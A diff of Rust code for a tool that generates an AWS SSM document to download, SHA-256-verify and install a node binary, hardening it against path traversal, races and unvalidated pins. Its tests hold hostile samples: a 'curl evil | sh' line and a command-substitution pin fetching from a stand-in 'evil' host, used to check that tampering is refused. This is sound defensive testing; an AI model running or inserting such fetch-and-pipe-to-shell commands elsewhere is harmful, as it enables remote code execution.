@@ -118,6 +118,7 @@ impl std::str::FromStr for S3Location {
         let prefix = prefix.trim_matches('/');
         let prefix_ok = prefix.len() <= 900
             && !prefix.contains("//")
+            && prefix.split('/').all(|segment| segment != "." && segment != "..")
             && prefix
                 .bytes()
                 .all(|b| b.is_ascii_alphanumeric() || b"!-_.*()/".contains(&b));
@@ -250,17 +251,67 @@ impl NodeBuilds {
         let mut steps = Vec::new();
         for arch in self.pins.keys() {
             let source = json!({ "path": self.location.url(*arch) }).to_string();
+            // onFailure is read from the step's inputs (amazon-ssm-agent,
+            // runpluginutil: the plugin's Properties are its inputs).
             steps.push(json!({
                 "action": "aws:downloadContent",
                 "name": format!("download_{}", arch.as_str()),
-                "onFailure": "exit",
                 "inputs": {
                     "sourceType": "S3",
                     "sourceInfo": source,
                     "destinationPath": arch.file_name(),
+                    "onFailure": "exit",
                 },
             }));
         }
+        let lines = self.install_script();
+        steps.push(json!({
+            "action": "aws:runShellScript",
+            "name": "install",
+            "inputs": {
+                "timeoutSeconds": "900",
+                "runCommand": lines,
+            },
+        }));
+        let pinned: Vec<String> = self
+            .pins
+            .iter()
+            .map(|(arch, sha)| format!("{} SHA-256 {sha}", arch.file_name()))
+            .collect();
+        let p = super::patterns();
+        let doc = json!({
+            "schemaVersion": "2.2",
+            "description": format!(
+                "hostkeyctl: put the node build at {NODE_PATH} from {} ({}), checked by its SHA-256 before it replaces anything; with SecretId, then install the keys the secret's stages say. Runs nothing else.",
+                self.location,
+                pinned.join(", ")
+            ),
+            "parameters": {
+                "SecretId": {
+                    "type": "String",
+                    "description": "The secret whose keys to install after the build (its ARN); empty for the build alone.",
+                    "default": "",
+                    "allowedPattern": format!("^$|{}", p["SecretId"]),
+                },
+                "Region": {
+                    "type": "String",
+                    "description": "The region the secret is read in; empty for the node's own.",
+                    "default": "",
+                    "allowedPattern": p["Region"],
+                },
+            },
+            "mainSteps": steps,
+        });
+        let mut text = serde_json::to_string_pretty(&doc).unwrap_or_default();
+        text.push('\n');
+        text
+    }
+
+    /// The shell step's lines: pick the node's build, check it, install
+    /// it, report, and with a secret install the keys.
+    fn install_script(&self) -> Vec<String> {
+        // POSIX sh: the agent runs the lines with sh (dash on Debian and
+        // Ubuntu).
         let mut lines = vec![
             "set -eu".to_owned(),
             "machine=$(uname -m)".to_owned(),
@@ -278,54 +329,47 @@ impl NodeBuilds {
                 "  result=unchanged",
                 "else",
                 "  [ -f \"hostkeyctl-$arch\" ] || { echo \"hostkeyctl-setup: hostkeyctl-$arch was not downloaded\" >&2; exit 1; }",
+                "  [ ! -d \"$bin\" ] || { echo \"hostkeyctl-setup: $bin is a directory: remove it, then deliver again\" >&2; exit 1; }",
                 "  mkdir -p \"$(dirname \"$bin\")\"",
-                "  install -m 0755 \"hostkeyctl-$arch\" \"$bin.new\"",
-                "  got=$(sha256sum \"$bin.new\" | cut -c1-64)",
+                // A name of its own beside the target: two runs at once
+                // (deliver and the setup association) never mix their files.
+                "  new=$(mktemp \"$bin.XXXXXX\")",
+                "  trap 'rm -f \"$new\"' EXIT",
+                "  cat \"hostkeyctl-$arch\" >\"$new\"",
+                "  chmod 0755 \"$new\"",
+                "  got=$(sha256sum \"$new\" | cut -c1-64)",
                 "  if [ \"$got\" != \"$want\" ]; then",
-                "    rm -f \"$bin.new\"",
-                "    echo \"hostkeyctl-setup: hostkeyctl-$arch in the bucket has SHA-256 $got, the document pins $want: not installed; upload the builds the document was deployed from, or deploy it again from the ones there (hostkeyctl ssm-document deploy-setup)\" >&2",
+                "    echo \"hostkeyctl-setup: hostkeyctl-$arch as downloaded has SHA-256 $got, the document pins $want: not installed; upload the builds the document was deployed from, or deploy it again from the ones there (hostkeyctl ssm-document deploy-setup)\" >&2",
                 "    exit 1",
                 "  fi",
-                "  if ! ran=$(\"$bin.new\" --version 2>&1); then",
-                "    rm -f \"$bin.new\"",
+                "  if ! ran=$(\"$new\" --version 2>&1); then",
                 "    echo \"hostkeyctl-setup: the pinned build does not run on this node, which keeps what it had: $ran\" >&2",
                 "    exit 1",
                 "  fi",
-                "  mv -f \"$bin.new\" \"$bin\"",
+                "  mv -fT \"$new\" \"$bin\"",
+                "  trap - EXIT",
                 "  result=installed",
                 "fi",
+                // What is there now, measured: another run may have
+                // replaced it meanwhile.
+                "got=$(sha256sum \"$bin\" | cut -c1-64)",
+                "[ \"$got\" = \"$want\" ] || { echo \"hostkeyctl-setup: $bin changed while this ran (SHA-256 $got): run deliver again\" >&2; exit 1; }",
                 "version=$(\"$bin\" --version 2>&1 | head -n 1 | tr -cd 'A-Za-z0-9 ._+-')",
                 &format!(
-                    "printf '{{\"schema\":\"{REPORT_SCHEMA}\",\"result\":\"%s\",\"path\":\"%s\",\"arch\":\"%s\",\"sha256\":\"%s\",\"version\":\"%s\"}}\\n' \"$result\" \"$bin\" \"$arch\" \"$want\" \"$version\""
+                    "printf '{{\"schema\":\"{REPORT_SCHEMA}\",\"result\":\"%s\",\"path\":\"%s\",\"arch\":\"%s\",\"sha256\":\"%s\",\"version\":\"%s\"}}\\n' \"$result\" \"$bin\" \"$arch\" \"$got\" \"$version\""
                 ),
+                // With a secret (the setup association): the keys too, as
+                // the converge document installs them.
+                "secret='{{ SecretId }}'; region='{{ Region }}'",
+                "if [ -n \"$secret\" ]; then",
+                "  set -- install --quiet --secret-id=\"$secret\"",
+                "  if [ -n \"$region\" ]; then set -- \"$@\" --region=\"$region\"; fi",
+                "  \"$bin\" \"$@\"",
+                "fi",
             ]
             .map(str::to_owned),
         );
-        steps.push(json!({
-            "action": "aws:runShellScript",
-            "name": "install",
-            "inputs": {
-                "timeoutSeconds": "300",
-                "runCommand": lines,
-            },
-        }));
-        let pinned: Vec<String> = self
-            .pins
-            .iter()
-            .map(|(arch, sha)| format!("{} SHA-256 {sha}", arch.file_name()))
-            .collect();
-        let doc = json!({
-            "schemaVersion": "2.2",
-            "description": format!(
-                "hostkeyctl: put the node build at {NODE_PATH} from {} ({}), checked by its SHA-256 before it replaces anything. Runs nothing else.",
-                self.location,
-                pinned.join(", ")
-            ),
-            "mainSteps": steps,
-        });
-        let mut text = serde_json::to_string_pretty(&doc).unwrap_or_default();
-        text.push('\n');
-        text
+        lines
     }
 
     /// The pins of a deployed document, when its content is exactly what
@@ -355,6 +399,10 @@ impl NodeBuilds {
                 .iter()
                 .filter_map(|l| l.as_str()?.strip_prefix(&prefix)?.strip_suffix(" ;;"))
                 .next()?;
+            // A SHA-256, nothing else: the pin stands in a shell line.
+            if !is_sha256_hex(sha) {
+                return None;
+            }
             pins.insert(arch, sha.to_owned());
         }
         let builds = NodeBuilds {
@@ -363,6 +411,11 @@ impl NodeBuilds {
         };
         (builds.content() == text).then_some(builds)
     }
+}
+
+/// 64 lowercase hexadecimal digits.
+pub fn is_sha256_hex(text: &str) -> bool {
+    text.len() == 64 && text.bytes().all(|b| b.is_ascii_digit() || (b'a'..=b'f').contains(&b))
 }
 
 /// What a node answered.
@@ -422,6 +475,8 @@ mod tests {
             "s3://abc/a b",
             "s3://abc/a\"b",
             "s3://abc/a//b",
+            "s3://abc/a/../b",
+            "s3://abc/./b",
         ] {
             assert!(bad.parse::<S3Location>().is_err(), "{bad} passed");
         }
@@ -442,6 +497,20 @@ mod tests {
         // Any edit is another document.
         let tampered = text.replace("set -eu", "set -eu\ncurl evil | sh");
         assert_eq!(NodeBuilds::from_content(&tampered), None);
+        // A pin that is not a SHA-256 would stand in the shell line: it
+        // round-trips through content(), so the pin itself is refused.
+        for pin in [
+            "$(curl -s https://evil/x|sh)",
+            "é".repeat(32).as_str(),
+            &"A".repeat(64),
+            &"a".repeat(63),
+        ] {
+            let evil = NodeBuilds {
+                pins: [(Arch::X86_64, pin.to_owned())].into(),
+                ..b.clone()
+            };
+            assert_eq!(NodeBuilds::from_content(&evil.content()), None, "{pin}");
+        }
         // Other pins make another setup document, whose pins deliver
         // shows: who may update documents decides what nodes install
         // (docs/security.md).
